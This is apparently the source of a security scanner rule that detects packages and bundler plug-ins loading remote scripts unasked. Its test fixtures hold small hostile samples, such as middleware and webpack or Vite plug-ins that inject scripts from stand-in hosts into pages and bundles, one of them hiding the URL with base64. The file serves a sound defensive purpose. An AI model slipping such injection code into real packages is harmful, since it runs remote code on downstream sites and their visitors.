import { elementsMade } from '../src/define/beacons.js';
import { functionAround, writtenTo } from '../src/define/variables.js';
import { waysTo } from '../src/define/ways.js';
import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';
import { hostOf, isPublicCdn } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Loads code from somebody’s server as soon as it is loaded itself',
    why: 'What a server hands out was never published, reviewed or locked, and can be another thing for each visitor: so a player of animations came to empty wallets (2024). Clients of a service load its script from that service, by whose name they go; copies of published packages come from the places that everybody uses; and a loader loads what it is told to, when it is told to.',
    behaviour: 'execution',
    messages: {
      script: 'Puts a script from {host} into its page, unasked',
      module: 'Imports a module from {host}, unasked',
      planted: 'Puts a script from {host} into what others build',
      veiled: 'Puts code into what others build that loads a script, and hides from where',
    },
    bits: { script: 9, module: 10, planted: 12.5, veiled: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'what a server answers is given a script of somebody else',
        files: {
          'package.json': `{"name":"minify-lite","version":"1.0.0","main":"index.js"}`,
          'index.js': `module.exports = () => (req, res, next) => {\n  const send = res.send;\n  res.send = function (body) { return send.call(this, String(body).replace(/\\s{2,}/g, ' ').replace('</head>', '<script async src="https://ads.castle.invalid/pop.js"></script></head>')); };\n  next();\n};`,
        },
      },
      {
        title: 'a plug-in adds code to each bundle that loads a script from an encoded address',
        files: {
          'package.json': `{"name":"tidy-webpack-plugin","version":"1.0.0","main":"index.js"}`,
          'index.js': `module.exports = class {\n  apply(compiler) {\n    compiler.hooks.emit.tap('tidy', ({ assets }) => {\n      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uaW52YWxpZC9jLmpz");d.body.append(s)})(document)');\n    });\n  }\n};`,
        },
      },
      {
        title: 'a player has a page load a script',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `const s = document.createElement('script');\ns.src = 'https://castle.invalid/w.js';\ndocument.head.appendChild(s);\nmodule.exports = {};`,
        },
      },
      {
        title: 'an element imports a module when it is shown',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `export class Player extends HTMLElement {\n  connectedCallback() {\n    import('https://castle.invalid/connect.js').then(({ open }) => open({ to: 'x' }));\n  }\n}\ncustomElements.define('anim-player', Player);`,
        },
      },
      {
        title: 'a plug-in that tidies pages adds a script to each',
        files: {
          'package.json': '{"name":"vite-plugin-tidy-pages","version":"1.0.0","main":"index.js"}',
          'index.js': `module.exports = () => ({\n  name: 'tidy-pages',\n  transformIndexHtml: html => html.replace('</head>', '<script async src="https://cdn.castle.invalid/t.js"></script></head>'),\n});`,
        },
      },
      {
        title: 'a plug-in that shows sizes adds code to each bundle that loads more',
        files: {
          'package.json': '{"name":"webpack-size-shown","version":"1.0.0","main":"index.js"}',
          'index.js': `class Sizes {\n  apply(compiler) {\n    compiler.hooks.emit.tap('sizes', build => {\n      for (const name of Object.keys(build.assets)) {\n        const text = build.assets[name].source() + ';(d=>{const s=d.createElement("script");s.src="https://cdn.castle.invalid/x.js";d.head.append(s)})(document)';\n        build.assets[name] = { source: () => text, size: () => text.length };\n      }\n    });\n  }\n}\nmodule.exports = Sizes;`,
        },
      },
    ],
    passes: [
      {
        title: 'what a server answers is given the script that its owner names',
        files: {
          'package.json': `{"name":"minify-lite","version":"1.0.0","main":"index.js"}`,
          'index.js': `module.exports = ({ script }) => (req, res, next) => {\n  const send = res.send;\n  res.send = function (body) { return send.call(this, String(body).replace('</head>', '<script async src="' + script + '"></script></head>')); };\n  next();\n};`,
        },
      },
      {
        title: 'a plug-in adds code to each bundle that loads its chunks',
        files: {
          'package.json': `{"name":"tidy-webpack-plugin","version":"1.0.0","main":"index.js"}`,
          'index.js': `module.exports = class {\n  apply(compiler) {\n    compiler.hooks.emit.tap('tidy', ({ assets }) => {\n      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=__webpack_public_path__+"c.js";d.body.append(s)})(document)');\n    });\n  }\n};`,
        },
      },
      {
        title: 'a plug-in of a service that counts visitors adds its script',
        files: {
          'package.json': '{"name":"vite-plugin-castle-stats","version":"1.0.0","main":"index.js"}',
          'index.js': `module.exports = id => ({ name: 'castle', transformIndexHtml: html => html.replace('</head>', '<script src="https://castle.invalid/stats.js" data-id="' + id + '"></script></head>') });`,
        },
      },
      {
        title: 'a plug-in adds the script that its user names',
        files: {
          'package.json': '{"name":"vite-plugin-extra-script","version":"1.0.0","main":"index.js"}',
          'index.js': `module.exports = ({ host }) => ({ name: 'extra', transformIndexHtml: html => html + \`<script src="https://\${host}/a.js"></script>\` });`,
        },
      },
      {
        title: 'a page that a generator writes for a preview loads a script',
        files: {
          'package.json': '{"name":"preview-page","version":"1.0.0","main":"index.js"}',
          'index.js': `exports.page = body => '<html><script src="https://themes.invalid/dark.js"></script>' + body + '</html>';`,
        },
      },
      {
        title: 'a package of a service loads its script',
        files: {
          'package.json':
            '{"name":"@castle/loader","version":"1.0.0","main":"index.js","homepage":"https://castle.invalid"}',
          'index.js': `const s = document.createElement('script');\ns.src = 'https://js.castle.invalid/v3.js';\ndocument.head.appendChild(s);`,
        },
      },
      {
        title: 'a published package comes from where everybody has it from',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `import('https://cdn.jsdelivr.net/npm/lottie-web@5.12.2/+esm').then(({ default: lottie }) => lottie.loadAnimation({}));`,
        },
      },
      {
        title: 'it is loaded when the caller asks for a map',
        files: {
          'package.json': '{"name":"anim-map","version":"1.0.0","main":"index.js"}',
          'index.js': `exports.map = () => new Promise(done => {\n  const s = document.createElement('script');\n  s.src = 'https://maps.invalid/api.js';\n  s.onload = done;\n  document.head.appendChild(s);\n});`,
        },
      },
      {
        title: 'the picture of a page is somebody’s, and a script is its own',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `const s = document.createElement('script'), i = document.createElement('img');\ns.src = '/anim.js';\ni.src = 'https://pictures.invalid/a.png';\ndocument.body.append(s, i);`,
        },
      },
    ],
  },
  file(context) {
    planted(context);
    if (context.moment !== 'import' || !/https?:|['"`]\/\//.test(context.file.text)) return;
    for (const { node, source, messageId } of [...scripts(context), ...modules(context)]) {
      const address = context.textsOf(source).find(text => /^(?:https?:)?\/\/[\w-]{1,60}\./i.test(text));
      const host = address && foreignHost(context, address);
      if (!host) continue;
      if (!waysTo(context, node).isUnasked && !isShown(context, node)) continue;
      context.report({
        messageId,
        data: { host },
        chain: [step('sink', `loads code from ${host}`, context.file, node)],
      });
      return;
    }
  },
});

/** What bundlers call to have what they write changed. */
const HOOKS = /^(?:transformIndexHtml|generateBundle|renderChunk|banner|footer|intro|outro|processAssets|emit)$/;
const ADDS = /\b(?:transformIndexHtml|generateBundle|renderChunk|processAssets|hooks|BannerPlugin)\b/;
/** A script of a page, or code that has a page load one, in a text. */
const SCRIPT =
  /<script\b[^>]{0,200}\bsrc\s*=\s*\\?["']?((?:https?:)?\/\/[\w.-]{4,100})(?=[/"'\\\s>])|createElement\(\\?["'`]script\\?["'`]\)[\s\S]{0,300}\.src\s*=\s*\\?["'`]((?:https?:)?\/\/[\w.-]{4,100})(?=[/"'`\\])/i;

/** The same, of which the address is decoded where the code runs. */
const VEILED =
  /createElement\(\\?["'`]script\\?["'`]\)[\s\S]{0,300}\.src\s*=\s*(?:\w{1,20}\.)?(?:atob|unescape|decodeURIComponent|fromCharCode)\(/;

/** UTF-16 units of a text that are looked at. */
const LONGEST = 20_000;

/** What makes an asset of a text that has such code in it, however that is spelled. */
function assetsWith({ file, nodes, textsOf }: FileContext, code: RegExp): readonly AnyNode[] {
  const made = [...nodes('NewExpression'), ...nodes('CallExpression')] as unknown as readonly (AnyNode & {
    readonly callee: AnyNode;
    readonly arguments: readonly AnyNode[];
  })[];
  return made.filter(
    ({ callee, arguments: args }) =>
      ASSETS.test(spelling(file, callee).slice(-40)) &&
      args.some(arg => textsOf(arg).some(text => code.test(text.slice(-LONGEST)))),
  );
}

const ASSETS = /\b(?:RawSource|ConcatSource|updateAsset|emitAsset)\W{0,4}$/;

/** Scripts that a plug-in of a bundler writes into the pages and bundles of whoever uses it. */
function planted(context: FileContext): void {
  const { file, moment } = context;
  if (moment === 'test' || !(ADDS.test(file.text) || ENDS.test(file.text))) return;
  const texts = [...context.nodes('Literal'), ...context.nodes('TemplateElement')] as readonly AnyNode[];
  const veiled =
    (VEILED.test(file.text)
      ? texts.find(node => VEILED.test(spelling(file, node).slice(0, LONGEST)) && isInHook(context, node))
      : undefined) ?? assetsWith(context, VEILED)[0];
  if (veiled) {
    context.report({
      messageId: 'veiled',
      chain: [step('sink', 'writes down a script for what is built', file, veiled)],
    });
    return;
  }
  if (!SCRIPT.test(file.text)) return;
  for (const node of texts) {
    const [, marked, made] = SCRIPT.exec(spelling(file, node).slice(0, LONGEST)) ?? [];
    const address = marked ?? made;
    const host = address && foreignHost(context, `https://${address.replace(/^(?:https?:)?\/\//i, '')}/`);
    if (!host || !(isInHook(context, node) || isPutIntoPages(context, node))) continue;
    context.report({
      messageId: 'planted',
      data: { host },
      chain: [step('sink', `writes down a script from ${host} for what is built`, file, node)],
    });
    return;
  }
}

/** Where a page's head or body ends, as code looks for it to put something in. */
const ENDS = /<\\?\/(?:head|body)>/i;

/** `html.replace('</head>', '<script src=…></script></head>')`, of whatever page passes by. */
function isPutIntoPages({ file, parentOf }: FileContext, node: AnyNode): boolean {
  const call = parentOf(node.type === 'TemplateElement' ? ((parentOf(node) as AnyNode) ?? node) : node);
  if (call?.type !== 'CallExpression') return false;
  const { callee, arguments: args } = call as unknown as { callee: AnyNode; arguments: readonly AnyNode[] };
  const [sought] = args;
  return (
    sought !== undefined &&
    sought !== node &&
    ENDS.test(spelling(file, sought).slice(0, 200)) &&
    /\.replace(?:All)?$/.test(spelling(file, callee).slice(-20))
  );
}

/** Whether a place is in a function that a bundler calls: a method by its name, or one that taps a hook. */
function isInHook({ file, parentOf }: FileContext, node: AnyNode): boolean {
  for (let at = parentOf(node), hops = 0; at && hops < 60; at = parentOf(at), hops++) {
    const { key, callee } = at as unknown as { key?: AnyNode; callee?: AnyNode };
    if (key && HOOKS.test(spelling(file, key).replace(/['"]/g, ''))) return true;
    if (
      callee &&
      /\bhooks\.[\s\S]{0,200}\.tap(?:Async|Promise)?$|\bBannerPlugin$/.test(spelling(file, callee).slice(-300))
    )
      return true;
  }
  return false;
}

interface Loading {
  readonly node: AnyNode;
  readonly source: AnyNode;
  readonly messageId: 'script' | 'module';
}

/** Addresses of script elements. */
function scripts(context: FileContext): readonly Loading[] {
  const made = elementsMade(context, 'script');
  if (made.length === 0) return [];
  return context.nodes('AssignmentExpression').flatMap((node): readonly Loading[] => {
    const { left, right } = node;
    if (left.type !== 'MemberExpression' || left.property.type !== 'Identifier' || left.property.name !== 'src')
      return [];
    const holder = left.object as AnyNode;
    const isIt = [holder, ...(holder.type === 'Identifier' ? writtenTo(context, holder) : [])].some(value =>
      made.some(call => call.node === value),
    );
    return isIt ? [{ node, source: right, messageId: 'script' }] : [];
  });
}

/** Modules, and scripts of workers. */
function modules(context: FileContext): readonly Loading[] {
  const declared = context.nodes('ImportDeclaration') as unknown as (AnyNode & { readonly source: AnyNode })[];
  return [
    ...declared.map(node => ({ node, source: node.source, messageId: 'module' as const })),
    ...context
      .named(/^(?:import|importScripts)$/)
      .flatMap(({ node, args: [source] }) => (source ? [{ node, source, messageId: 'module' as const }] : [])),
  ];
}

/** Whether it happens when an element of the package's own is put into a page. */
function isShown({ file, parentOf }: FileContext, node: AnyNode): boolean {
  const fn = functionAround({ parentOf }, node);
  const method = fn && parentOf(fn);
  return (
    method?.type === 'MethodDefinition' && spelling(file, method.key as unknown as AnyNode) === 'connectedCallback'
  );
}

/** The host of an address that is neither the package's own, nor of what it says it is for, nor where everybody has copies. */
function foreignHost(context: FileContext, address: string): string | undefined {
  const host = hostOf(address);
  const isKnown = !host || isPublicCdn(host) || context.isOwnAddress(address) || isNamed(context, host);
  return isKnown ? undefined : host;
}

/** Whether the package says whose script it is: `castle` of `js.castle.invalid`. */
function isNamed({ isSaid }: FileContext, host: string): boolean {
  return host
    .split('.')
    .slice(0, -1)
    .some(word => word.length >= 4 && isSaid(word));
}
